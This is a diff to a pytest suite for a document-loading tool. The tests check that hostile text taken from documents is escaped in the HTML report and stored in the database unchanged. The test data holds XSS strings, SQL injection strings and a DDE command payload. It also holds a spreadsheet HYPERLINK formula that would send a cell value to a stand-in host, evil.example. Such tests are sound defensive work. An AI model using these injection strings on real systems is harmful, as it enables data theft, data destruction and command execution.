@@ -167,7 +167,7 @@ def test_budget_refusals_are_quick_and_name_the_limit(run):
         assert seconds < max_s, (name, seconds)
     assert by_name["fifo.pdf"][1] < 2 and "FIFO" in by_name["fifo.pdf"][0].error
     assert by_name["blank_300.pdf"][1] < 15          # blank pages are not rendered for OCR
-    assert by_name["rows_20000.docx"][0].n_activities == 20000
+    assert by_name["rows_2000.docx"][0].n_activities == 2000
 
 
 @pytest.mark.timeout(600)
@@ -193,13 +193,16 @@ def test_text_from_documents_is_escaped_in_the_html_report(run, tmp_path):
     res = CliRunner().invoke(app, ["report", "-o", str(out), "--db", db_url])
     assert res.exit_code == 0, res.output
     html = out.read_text(encoding="utf-8")
-    assert "&lt;script&gt;alert(" in html                  # the hostile title is in the report ...
-    assert "<script>alert" not in html and "<b>жирный" not in html   # ... escaped
-    assert "onmouseover=\"alert" not in html
+    assert "&lt;img src=x onerror=alert(1)//" in html        # the hostile title is in the report ...
+    assert "<img src=x" not in html and "<script>alert" not in html   # ... escaped
 
 
 def test_hostile_texts_survive_the_load_unchanged(run):
     db_url, _good, _results = run
-    titles = " ".join(a["title"] or "" for d in export_json(db_url) for a in d["activities"])
-    assert "<script>alert('xss')</script>" in titles and "'); DROP TABLE documents; --" in titles
-    assert HOSTILE_TEXTS
+    acts = [a for d in export_json(db_url) for a in d["activities"]]
+    texts = " ".join(f"{a['title']} {a['responsible']} {a['result']}" for a in acts)
+    for t in ("'); DROP TABLE documents; --", '=HYPERLINK("http://evil.example/?q="&A1,"нажмите")',
+              "Robert'); DELETE FROM activities WHERE ('1'='1", "+1+cmd|' /C calc'!A0"):
+        assert t in texts, t                  # SQL and formulas are stored as plain text
+    assert "alert('xss') жирный" in texts and "<script>" not in texts   # markup stripped by the normaliser
+    assert len(HOSTILE_TEXTS) == 8
